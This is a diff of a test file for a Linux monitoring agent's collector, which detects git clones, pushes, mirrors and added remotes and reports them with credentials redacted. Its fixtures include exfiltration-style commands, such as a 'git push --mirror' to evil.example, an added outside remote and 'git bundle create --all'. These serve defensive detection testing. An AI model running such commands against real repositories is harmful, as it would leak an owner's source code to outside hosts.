@@ -3,12 +3,13 @@ import type { Collector } from '../../../../agent/collect.ts'
 import { repositories } from '../../../../agent/collectors/linux/repositories.ts'
 import type { Observation } from '../../../../wire/event.ts'
 import type { Policy } from '../../../../wire/messages.ts'
+import { DAY, HOUR } from '../../../../wire/time.ts'
 import { deniedFolder, type FakeHost, fakeHost, policy, put, watchPolls } from '../../fake-host.ts'
 
 const SOURCE: Policy = { ...policy, watchedRoots: [{ path: '/home/ann/src', kind: 'source' }] }
 const ORIGIN = (url: string) => `[remote "origin"]\n\turl = ${url}\n`
 const CLONED = `${'0'.repeat(40)} ${'a'.repeat(40)} Ann <ann@example.com> 1 +0000\tclone: from x\n`
-const said = (polls: Observation[][]) =>
+const reported = (polls: Observation[][]) =>
   polls.map((poll) =>
     poll.map((it) =>
       it.category === 'repository'
@@ -18,7 +19,7 @@ const said = (polls: Observation[][]) =>
           : it.category,
     ),
   )
-/** As many polls as pass until the roots are swept again. */
+/** The number of polls between two sweeps. */
 const MINUTE = Array.from({ length: 12 }, () => () => {})
 
 function repository(host: FakeHost, at: string, url: string, more: { log?: string; pack?: number } = {}): void {
@@ -39,15 +40,15 @@ function begin(
 }
 
 describe('agent/collectors/linux/repositories', () => {
-  it('a clone is told when it ended, with the size it left; one that failed is not', async () => {
+  it('reports a clone with its size when it has ended, but not a failed one', async () => {
     const host = fakeHost({})
-    const code = repositories()
-    const polls = await watchPolls(code.collector, host, [
+    const watched = repositories()
+    const polls = await watchPolls(watched.collector, host, [
       () => {
         running(host, 7)
         running(host, 8)
-        begin(code, 7, 'git clone https://ann:pw@github.com/acme/api.git')
-        begin(code, 8, 'git clone https://github.com/acme/gone.git')
+        begin(watched, 7, 'git clone https://ann:pw@github.com/acme/api.git')
+        begin(watched, 8, 'git clone https://github.com/acme/gone.git')
       },
       () => ended(host, 8),
       () => {
@@ -55,37 +56,37 @@ describe('agent/collectors/linux/repositories', () => {
         ended(host, 7)
       },
     ])
-    assert.deepEqual(said(polls), [[], [], [], ['clone github.com acme 5000']])
+    assert.deepEqual(reported(polls), [[], [], [], ['clone github.com acme 5000']])
     assert.doesNotMatch(JSON.stringify(polls), /pw|api/)
   })
 
-  it('a clock that is ahead for a moment ends no clone', async () => {
+  it('a clock that is ahead for a moment does not end a clone', async () => {
     const host = fakeHost({})
-    const code = repositories()
-    const polls = await watchPolls(code.collector, host, [
+    const watched = repositories()
+    const polls = await watchPolls(watched.collector, host, [
       () => {
         running(host, 7)
-        begin(code, 7, 'git clone https://github.com/acme/api.git')
+        begin(watched, 7, 'git clone https://github.com/acme/api.git')
       },
       () => {
         repository(host, '/home/ann/api', 'x', { pack: 1_000 })
-        host.setClock(15 * 86_400_000)
+        host.setClock(15 * DAY)
       },
-      () => host.setClock(-15 * 86_400_000),
+      () => host.setClock(-15 * DAY),
       () => {
         repository(host, '/home/ann/api', 'x', { pack: 5_000 })
         ended(host, 7)
       },
     ])
-    assert.deepEqual(said(polls), [[], [], [], [], ['clone github.com acme 5000']])
+    assert.deepEqual(reported(polls), [[], [], [], [], ['clone github.com acme 5000']])
   })
 
-  it('commands that come faster than it can look, folders and remotes beyond its bounds are counted', async () => {
+  it('counts commands, folders and remotes beyond its limits', async () => {
     const host = fakeHost({ '/etc/passwd': 'ann:x:1000:1000::/home/ann:/bin/sh\n' })
     for (let n = 0; n < 5_010; n++) put(host.tree, `/home/ann/src/f${n}/x`, '')
-    const code = repositories()
-    for (let n = 0; n < 300; n++) begin(code, n, `git push https://github.com/acme/r${n}.git`)
-    const [first] = await watchPolls(code.collector, host, [], SOURCE)
+    const watched = repositories()
+    for (let n = 0; n < 300; n++) begin(watched, n, `git push https://github.com/acme/r${n}.git`)
+    const [first] = await watchPolls(watched.collector, host, [], SOURCE)
     const gaps = first!.flatMap((it) => (it.category === 'collection_gap' ? [`${it.About} ${it.Count}`] : []))
     assert.deepEqual(gaps, ['repository 44', 'source roots 11'])
     assert.equal(first!.length, 256 + 2)
@@ -106,26 +107,26 @@ describe('agent/collectors/linux/repositories', () => {
       ],
       SOURCE,
     )
-    const told = said(polls).flat()
+    const actions = reported(polls).flat()
     assert.deepEqual(
-      [told.filter((it) => it.startsWith('remote_added')).length, told.at(-1)],
+      [actions.filter((it) => it.startsWith('remote_added')).length, actions.at(-1)],
       [64, 'gap remotes of one repository overflow'],
     )
   })
 
-  it('a push goes where the config says, and a remote by name is looked up', async () => {
+  it('finds the target of a push in the config', async () => {
     const host = fakeHost({})
     repository(host, '/home/ann/api', 'git@github.com:acme/api.git')
-    const code = repositories()
-    const polls = await watchPolls(code.collector, host, [
-      () => begin(code, 7, 'git push', '/home/ann/api/src/deep'),
-      () => begin(code, 7, 'git push nobody', '/home/ann/api'),
-      () => begin(code, 7, 'git push --mirror https://evil.example/me/x.git', null),
-      () => begin(code, 7, 'git remote add mine gitlab.com:me/x', '/home/ann/api'),
-      () => begin(code, 7, 'git bundle create x --all', '/home/ann/api'),
-      () => begin(code, 7, 'git push', null),
+    const watched = repositories()
+    const polls = await watchPolls(watched.collector, host, [
+      () => begin(watched, 7, 'git push', '/home/ann/api/src/deep'),
+      () => begin(watched, 7, 'git push nobody', '/home/ann/api'),
+      () => begin(watched, 7, 'git push --mirror https://evil.example/me/x.git', null),
+      () => begin(watched, 7, 'git remote add mine gitlab.com:me/x', '/home/ann/api'),
+      () => begin(watched, 7, 'git bundle create x --all', '/home/ann/api'),
+      () => begin(watched, 7, 'git push', null),
     ])
-    assert.deepEqual(said(polls).slice(1), [
+    assert.deepEqual(reported(polls).slice(1), [
       ['push github.com acme null'],
       ['push null null null'],
       ['mirror evil.example me null'],
@@ -135,15 +136,15 @@ describe('agent/collectors/linux/repositories', () => {
     ])
   })
 
-  it('the same within an hour is told once', async () => {
+  it('reports the same action once an hour', async () => {
     const host = fakeHost({})
-    const code = repositories()
-    const push = () => begin(code, 7, 'git push https://h/a/b', null)
+    const watched = repositories()
+    const push = () => begin(watched, 7, 'git push https://h/a/b', null)
     const hour = () => {
-      host.clock += 3_600_000
+      host.clock += HOUR
       push()
     }
-    assert.deepEqual(said(await watchPolls(code.collector, host, [push, push, hour])), [
+    assert.deepEqual(reported(await watchPolls(watched.collector, host, [push, push, hour])), [
       [],
       ['push h a null'],
       [],
@@ -151,7 +152,7 @@ describe('agent/collectors/linux/repositories', () => {
     ])
   })
 
-  it('source roots: what is there first is the baseline; then clones, new remotes and changed ones', async () => {
+  it('source roots: a baseline first, then clones, and new and changed remotes', async () => {
     const host = fakeHost({})
     repository(host, '/home/ann/src/old', 'git@github.com:acme/old.git')
     const polls = await watchPolls(
@@ -177,19 +178,19 @@ describe('agent/collectors/linux/repositories', () => {
       ],
       SOURCE,
     )
-    const told = said(polls)
-    assert.deepEqual(told[0], [])
-    assert.deepEqual(told[12], ['clone github.com acme 9'])
-    // One that does not say it is a clone may be one that is not over yet, so it waits a sweep.
-    assert.deepEqual(told[24]?.toSorted(), [
+    const actions = reported(polls)
+    assert.deepEqual(actions[0], [])
+    assert.deepEqual(actions[12], ['clone github.com acme 9'])
+    // Without a log it may be an unfinished clone, so it is reported after another sweep.
+    assert.deepEqual(actions[24]?.toSorted(), [
       'clone github.com acme 0',
       'remote_added evil.example me null',
       'remote_added github.com me null',
     ])
-    assert.equal(told.flat().length, 4)
+    assert.equal(actions.flat().length, 4)
   })
 
-  it('what came while the agent was away is news, and a restart alone is not', async () => {
+  it('reports what came while the agent was stopped, and nothing after a restart alone', async () => {
     const host = fakeHost({})
     repository(host, '/home/ann/src/old', 'git@github.com:acme/old.git')
     const first = await watchPolls(repositories().collector, host, [], SOURCE)
@@ -197,32 +198,32 @@ describe('agent/collectors/linux/repositories', () => {
     repository(host, '/home/ann/src/new', 'git@github.com:acme/new.git', { log: CLONED })
     const away = await watchPolls(repositories().collector, host, [], SOURCE)
     assert.deepEqual(
-      [first, again, away].map((it) => said(it).flat()),
+      [first, again, away].map((it) => reported(it).flat()),
       [[], [], ['clone github.com acme null']],
     )
   })
 
-  it('a clone seen as a process and in its folder is one', async () => {
+  it('reports a clone once that is seen as a process and in its folder', async () => {
     const host = fakeHost({ '/home/ann/src/x': '' })
-    const code = repositories()
+    const watched = repositories()
     const polls = await watchPolls(
-      code.collector,
+      watched.collector,
       host,
       [
         () => {
-          begin(code, 7, 'git clone https://github.com/acme/api', '/home/ann/src')
+          begin(watched, 7, 'git clone https://github.com/acme/api', '/home/ann/src')
           repository(host, '/home/ann/src/api', 'https://github.com/acme/api', { log: CLONED, pack: 3 })
         },
         ...MINUTE,
       ],
       SOURCE,
     )
-    assert.deepEqual(said(polls).flat(), ['clone github.com acme 3'])
+    assert.deepEqual(reported(polls).flat(), ['clone github.com acme 3'])
   })
 
-  it('says where it cannot look', async () => {
+  it('reports what it cannot read', async () => {
     const blind: Collector = repositories().collector
-    assert.deepEqual(said(await watchPolls(blind, fakeHost({ '/home/ann/src': deniedFolder }), [], SOURCE)), [
+    assert.deepEqual(reported(await watchPolls(blind, fakeHost({ '/home/ann/src': deniedFolder }), [], SOURCE)), [
       ['gap /home/ann/src denied'],
     ])
   })
